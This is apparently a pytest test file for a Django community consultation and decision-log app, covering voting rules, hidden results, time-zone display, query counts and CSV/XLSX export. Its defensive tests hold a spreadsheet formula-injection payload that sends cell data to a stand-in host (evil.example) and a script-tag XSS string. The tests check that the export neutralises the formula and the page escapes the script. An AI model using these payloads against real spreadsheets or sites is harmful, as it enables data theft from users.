"""Consultation and decision-log pages: voting through the page (the issue's bad inputs), results hidden until
closing, times in the community's zone across a change of clocks, the decision log and its formula-safe export,
query counts."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from community.models import Ballot, CommunityDecision, Consultation, ConsultationComment, MemberRole
from tests.community.community_factories import community_member, dag
from tests.community.consultation_factories import (
    DecisionFactory,
    cast,
    closed_consultation,
    consultation_with_options,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def mk():
    return dag("MK", timezone="Europe/Skopje")


def detail_url(consultation):
    return reverse("workspace:consultation_detail", args=[consultation.community.slug, consultation.pk])


def login(client, user):
    client.force_login(user)
    return client


def option_pk(consultation, label):
    return consultation.options.get(label=label).pk


def page_text(response) -> str:
    return response.content.decode()


# --- Voting through the page ---------------------------------------------------------------------------------------


def test_member_votes_and_sees_their_ballot(client, mk):
    consultation = consultation_with_options(mk)
    member = community_member(mk)
    login(client, member)
    response = client.get(detail_url(consultation))
    assert response.status_code == 200
    assert 'name="choice"' in page_text(response)

    response = client.post(
        detail_url(consultation), {"action": "vote", "choice": option_pk(consultation, "Public procurement")}
    )
    assert response.status_code == 302
    page = page_text(client.get(detail_url(consultation)))
    assert "You voted on" in page and "(Europe/Skopje," in page
    assert "You chose:" in page and "<strong>Public procurement</strong>" in page
    assert 'name="choice"' not in page
    assert Ballot.objects.filter(voter=member).count() == 1


def test_second_vote_through_the_page_is_refused(client, mk):
    consultation = consultation_with_options(mk)
    member = community_member(mk)
    cast(consultation, member, "Asset declarations")
    login(client, member)
    response = client.post(
        detail_url(consultation),
        {"action": "vote", "choice": option_pk(consultation, "Public procurement")},
        follow=True,
    )
    assert "You have already voted in this consultation" in page_text(response)
    assert Ballot.objects.get(voter=member).choices.get().option.label == "Asset declarations"


def test_vote_after_closing_through_the_page_is_refused(client, mk):
    consultation = consultation_with_options(mk)
    member = community_member(mk)
    login(client, member)
    with time_machine.travel(consultation.closes_at + timedelta(seconds=1), tick=False):
        response = client.post(
            detail_url(consultation),
            {"action": "vote", "choice": option_pk(consultation, "Public procurement")},
            follow=True,
        )
        assert "This consultation has closed." in page_text(response)
    assert not Ballot.objects.exists()


def test_non_member_vote_through_the_page_is_404(client, mk):
    consultation = consultation_with_options(mk)
    login(client, community_member(dag("RS")))
    response = client.post(
        detail_url(consultation), {"action": "vote", "choice": option_pk(consultation, "Public procurement")}
    )
    assert response.status_code == 404
    assert not Ballot.objects.exists()


def test_observer_sees_no_ballot_and_a_posted_vote_is_refused(client, mk):
    consultation = consultation_with_options(mk)
    observer = community_member(mk, role=MemberRole.OBSERVER)
    login(client, observer)
    page = page_text(client.get(detail_url(consultation)))
    assert 'name="choice"' not in page
    assert "Observers take part in the discussion but do not vote." in page
    response = client.post(
        detail_url(consultation),
        {"action": "vote", "choice": option_pk(consultation, "Public procurement")},
        follow=True,
    )
    assert "Observers take part in the discussion but do not vote." in page_text(response)
    assert not Ballot.objects.exists()


def test_ranked_ballot_form_has_a_rank_select_per_option_and_clear_errors(client, mk):
    consultation = consultation_with_options(mk, method=Consultation.Method.RANKED)
    login(client, community_member(mk))
    page = page_text(client.get(detail_url(consultation)))
    for option in consultation.options.all():
        assert f'name="rank_{option.pk}"' in page
    pks = {o.label: o.pk for o in consultation.options.all()}

    nothing = client.post(detail_url(consultation), {"action": "vote"})
    assert "Rank at least one option" in page_text(nothing)

    duplicate = {"action": "vote", f"rank_{pks['Asset declarations']}": "1", f"rank_{pks['Public procurement']}": "1"}
    response = client.post(detail_url(consultation), duplicate)
    assert response.status_code == 200
    assert "You gave rank 1 to more than one option (Asset declarations, Public procurement)" in page_text(response)

    gap = {"action": "vote", f"rank_{pks['Asset declarations']}": "1", f"rank_{pks['Public procurement']}": "3"}
    assert "no option has rank 2" in page_text(client.post(detail_url(consultation), gap))
    assert not Ballot.objects.exists()

    good = {"action": "vote", f"rank_{pks['Lobbying register']}": "1", f"rank_{pks['Asset declarations']}": "2"}
    assert client.post(detail_url(consultation), good).status_code == 302
    ballot = Ballot.objects.get()
    assert [c.option.label for c in ballot.choices.order_by("rank")] == ["Lobbying register", "Asset declarations"]
    page = page_text(client.get(detail_url(consultation)))
    assert "Your ranking:" in page
    assert page.index("<li>Lobbying register</li>") < page.index("<li>Asset declarations</li>")


def test_comments_by_members_and_observers_escaped_and_closed_with_the_consultation(client, mk):
    consultation = consultation_with_options(mk)
    observer = community_member(mk, role=MemberRole.OBSERVER)
    login(client, observer)
    response = client.post(detail_url(consultation), {"action": "comment", "body": "<script>alert(1)</script> Yes"})
    assert response.status_code == 302
    page = page_text(client.get(detail_url(consultation)))
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Yes" in page and "<script>alert(1)" not in page
    with time_machine.travel(consultation.closes_at, tick=False):
        page = page_text(client.get(detail_url(consultation)))
        assert 'name="body"' not in page
        response = client.post(detail_url(consultation), {"action": "comment", "body": "Late"}, follow=True)
        assert "comments are no longer accepted" in page_text(response)
    assert ConsultationComment.objects.count() == 1


# --- Results only after closing ------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [MemberRole.COORDINATOR, MemberRole.MEMBER, MemberRole.OBSERVER])
def test_results_are_hidden_before_closing_from_everyone(client, mk, role):
    consultation = consultation_with_options(mk)
    for _ in range(3):
        cast(consultation, community_member(mk), "Political party finance")
    login(client, community_member(mk, role=role))
    page = page_text(client.get(detail_url(consultation)))
    assert "The results will be shown here once the consultation closes" in page
    assert "result-bar" not in page and "Ballots cast" not in page and "Votes</th>" not in page
    listing = page_text(client.get(reverse("workspace:consultations", args=[mk.slug])))
    assert "#results" not in listing


def test_results_after_closing_with_text_bars_and_turnout(client, mk):
    consultation = closed_consultation(mk)
    voters = [community_member(mk, started_on=timezone.now().date() - timedelta(days=30)) for _ in range(2)]
    cast(consultation, voters[0], "Public procurement")
    cast(consultation, voters[1], "Public procurement")
    login(client, voters[0])
    page = page_text(client.get(detail_url(consultation)))
    assert "Ballots cast" in page and "Turnout" in page
    assert "Public procurement <strong>(first)</strong>" in page
    assert '<span class="result-bar" aria-hidden="true">' + "█" * 20 + "</span> 100.0 %" in page
    assert "Record the outcome" not in page  # members do not record decisions


def test_coordinator_records_the_outcome_prefilled_with_the_winner(client, mk):
    consultation = closed_consultation(mk)
    voter = community_member(mk, started_on=timezone.now().date() - timedelta(days=30))
    cast(consultation, voter, "Lobbying register")
    coordinator = community_member(mk, role=MemberRole.COORDINATOR)
    login(client, coordinator)
    response = client.get(detail_url(consultation))
    form = response.context["record_form"]
    assert form.initial["decision"] == f"{consultation.question} – Lobbying register"
    data = {
        "action": "record",
        "decision": "Publish the lobbying register first.",
        "decided_on": timezone.now().date().isoformat(),
        "meeting": "",
    }
    assert client.post(detail_url(consultation), data).status_code == 302
    entry = CommunityDecision.objects.get()
    assert entry.consultation == consultation and entry.recorded_by == coordinator
    page = page_text(client.get(detail_url(consultation)))
    assert "Publish the lobbying register first." in page


def test_member_posting_a_decision_is_forbidden(client, mk):
    consultation = closed_consultation(mk)
    login(client, community_member(mk))
    data = {"action": "record", "decision": "x", "decided_on": timezone.now().date().isoformat()}
    assert client.post(detail_url(consultation), data).status_code == 403
    assert not CommunityDecision.objects.exists()


def test_consultation_of_another_community_under_this_address_is_404(client, mk):
    rs = dag("RS")
    consultation = consultation_with_options(rs)
    member_of_both = community_member(mk)
    community_member(rs, user=member_of_both)
    login(client, member_of_both)
    url = reverse("workspace:consultation_detail", args=[mk.slug, consultation.pk])
    assert client.get(url).status_code == 404


# --- Time zone display across the change of clocks -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("closes_at", "shown"),
    [
        (datetime(2026, 3, 28, 16, 0, tzinfo=UTC), "28 March 2026, 17:00 (Europe/Skopje, CET)"),
        (datetime(2026, 3, 29, 15, 0, tzinfo=UTC), "29 March 2026, 17:00 (Europe/Skopje, CEST)"),
        (datetime(2026, 10, 25, 16, 0, tzinfo=UTC), "25 October 2026, 17:00 (Europe/Skopje, CET)"),
    ],
)
def test_closing_time_is_shown_in_the_community_zone_across_daylight_saving(client, mk, closes_at, shown):
    """Clocks go forward on 29 March 2026 and back on 25 October 2026: 17:00 local is 16:00 or 15:00 UTC."""
    with time_machine.travel(datetime(2026, 3, 20, 9, 0, tzinfo=UTC), tick=False):
        consultation = consultation_with_options(mk, opens_at=timezone.now(), closes_at=closes_at)
        login(client, community_member(mk))
        listing = page_text(client.get(reverse("workspace:consultations", args=[mk.slug])))
        assert f"Closes {shown}" in listing
        assert shown in page_text(client.get(detail_url(consultation)))


def test_kosovo_community_names_its_zone_by_the_country(client):
    xk = dag("XK", timezone="Europe/Belgrade")
    consultation_with_options(xk, closes_at=datetime(2030, 1, 10, 16, 0, tzinfo=UTC))
    login(client, community_member(xk))
    listing = page_text(client.get(reverse("workspace:consultations", args=[xk.slug])))
    assert "10 January 2030, 17:00 (Kosovo, CET)" in listing


@time_machine.travel(datetime(2026, 3, 20, 9, 0, tzinfo=UTC), tick=False)
def test_coordinator_types_local_time_across_the_change_of_clocks(client, mk):
    coordinator = community_member(mk, role=MemberRole.COORDINATOR)
    login(client, coordinator)
    data = {
        "question": "Which dataset first?",
        "method": "single",
        "opens_at": "",
        "closes_at": "2026-04-02T17:00",
        "option_1_label": "Asset declarations",
        "option_2_label": "Public procurement",
        "option_2_description": "Contracts above EUR 10,000",
    }
    response = client.post(reverse("workspace:consultation_new", args=[mk.slug]), data)
    assert response.status_code == 302, response.context["form"].errors
    consultation = Consultation.objects.get()
    assert consultation.closes_at == datetime(2026, 4, 2, 15, 0, tzinfo=UTC)  # CEST, UTC+2
    assert [o.label for o in consultation.options.all()] == ["Asset declarations", "Public procurement"]
    page = page_text(client.get(response.url, follow=True))
    assert "2 April 2026, 17:00 (Europe/Skopje, CEST)" in page

    skipped = {**data, "closes_at": "2026-03-29T02:30"}  # does not exist in Skopje
    response = client.post(reverse("workspace:consultation_new", args=[mk.slug]), skipped)
    assert response.status_code == 200 and response.context["form"].errors["closes_at"]


def test_open_form_errors(client, mk):
    login(client, community_member(mk, role=MemberRole.COORDINATOR))
    url = reverse("workspace:consultation_new", args=[mk.slug])
    past = (timezone.now() - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    response = client.post(url, {"question": "Q", "method": "single", "closes_at": past, "option_1_label": "Only"})
    errors = response.context["form"].errors
    assert "Give at least two options." in errors["option_1_label"]
    assert errors["closes_at"]
    assert not Consultation.objects.exists()


# --- The list ------------------------------------------------------------------------------------------------------


def test_list_shows_open_first_then_upcoming_then_closed_with_results_links(client, mk):
    now = timezone.now()
    closed = closed_consultation(mk, question="Closed question")
    later = consultation_with_options(
        mk, question="Upcoming question", opens_at=now + timedelta(days=2), closes_at=now + timedelta(days=9)
    )
    open_one = consultation_with_options(mk, question="Open question")
    login(client, community_member(mk))
    page = page_text(client.get(reverse("workspace:consultations", args=[mk.slug])))
    assert page.index("Open question") < page.index("Upcoming question") < page.index("Closed question")
    assert f"{detail_url(closed)}#results" in page
    assert f"{detail_url(later)}#results" not in page and f"{detail_url(open_one)}#results" not in page


def test_coordinator_sees_the_open_button_and_members_do_not(client, mk):
    url = reverse("workspace:consultations", args=[mk.slug])
    new_url = reverse("workspace:consultation_new", args=[mk.slug])
    assert new_url in page_text(login(client, community_member(mk, role=MemberRole.COORDINATOR)).get(url))
    assert new_url not in page_text(login(client, community_member(mk)).get(url))


def _count_queries(client, url):
    """Queries of a GET of ``url`` after a first GET (which also fills per-process caches: content types, sites)."""
    client.get(url)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries)


def test_consultation_list_query_count_is_flat(client, mk):
    member = community_member(mk)
    login(client, member)
    url = reverse("workspace:consultations", args=[mk.slug])

    def add(n):
        for index in range(n):
            consultation = closed_consultation(mk) if index % 2 else consultation_with_options(mk)
            cast(consultation, member, "Asset declarations")
            DecisionFactory(community=mk, consultation=consultation)

    add(3)
    few = _count_queries(client, url)
    add(30)
    assert _count_queries(client, url) == few


# --- The decision log ----------------------------------------------------------------------------------------------


def test_decision_log_lists_entries_with_consultation_links(client, mk):
    consultation = closed_consultation(mk, question="Which dataset?")
    DecisionFactory(community=mk, consultation=consultation, meeting="", decision="Procurement first.")
    DecisionFactory(community=mk, meeting="DAG meeting, Skopje", decision="Meet quarterly.")
    DecisionFactory(community=dag("RS"), decision="Serbian decision")
    login(client, community_member(mk, role=MemberRole.OBSERVER))
    page = page_text(client.get(reverse("workspace:decisions", args=[mk.slug])))
    assert "Procurement first." in page and "Meet quarterly." in page
    assert f'href="{detail_url(consultation)}"' in page
    assert "Meeting: DAG meeting, Skopje" in page
    assert "Serbian decision" not in page
    assert "Add a decision" not in page


def test_coordinator_adds_a_decision_from_a_meeting(client, mk):
    login(client, community_member(mk, role=MemberRole.COORDINATOR))
    url = reverse("workspace:decisions", args=[mk.slug])
    day = (timezone.now().date() - timedelta(days=1)).isoformat()
    response = client.post(url, {"decision": "Meet quarterly.", "decided_on": day, "meeting": ""})
    assert response.status_code == 200
    assert "Name the consultation or the meeting" in page_text(response)
    response = client.post(url, {"decision": "Meet quarterly.", "decided_on": day, "meeting": "DAG meeting"})
    assert response.status_code == 302
    assert CommunityDecision.objects.get().meeting == "DAG meeting"


def test_member_cannot_add_to_the_decision_log(client, mk):
    login(client, community_member(mk))
    url = reverse("workspace:decisions", args=[mk.slug])
    day = timezone.now().date().isoformat()
    assert client.post(url, {"decision": "x", "decided_on": day, "meeting": "m"}).status_code == 403


def test_decision_log_query_count_is_flat(client, mk):
    login(client, community_member(mk))
    url = reverse("workspace:decisions", args=[mk.slug])

    def add(n):
        for _ in range(n):
            DecisionFactory(community=mk, consultation=closed_consultation(mk), recorded_by=community_member(mk))

    add(3)
    few = _count_queries(client, url)
    add(30)
    assert _count_queries(client, url) == few


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_decision_log_csv_keeps_a_formula_as_text(client, mk):
    DecisionFactory(community=mk, decision=FORMULA, meeting="@SUM(A1)")
    DecisionFactory(community=dag("RS"), decision="Serbian decision")
    login(client, community_member(mk))
    response = client.get(reverse("workspace:decisions_export", args=[mk.slug]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["Date of decision", "Decision", "Consultation", "Meeting", "Recorded by"]
    assert rows[1][1] == "'" + FORMULA
    assert rows[1][3] == "'@SUM(A1)"
    assert "Serbian decision" not in body


def test_decision_log_xlsx_keeps_a_formula_as_text(client, mk):
    DecisionFactory(community=mk, decision=FORMULA)
    login(client, community_member(mk))
    response = client.get(reverse("workspace:decisions_export", args=[mk.slug]) + "?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cell = workbook.active.cell(row=2, column=2)
    assert cell.value == FORMULA
    assert cell.data_type == "s"


@pytest.mark.parametrize(
    ("language", "results"),
    [("bs", "Rezultati"), ("sq", "Rezultatet"), ("mk", "Резултати"), ("sr-latn", "Rezultati"), ("tr", "Sonuçlar")],
)
def test_closed_consultation_page_in_every_language(client, mk, language, results):
    from django.utils import translation

    consultation = closed_consultation(mk, method=Consultation.Method.RANKED)
    cast(consultation, community_member(mk), "Public procurement", "Asset declarations")
    login(client, community_member(mk, role=MemberRole.COORDINATOR))
    with translation.override(language):
        url = detail_url(consultation)
    response = client.get(url)
    assert response.status_code == 200
    page = page_text(response)
    assert results in page
    assert "Europe/Skopje" in page
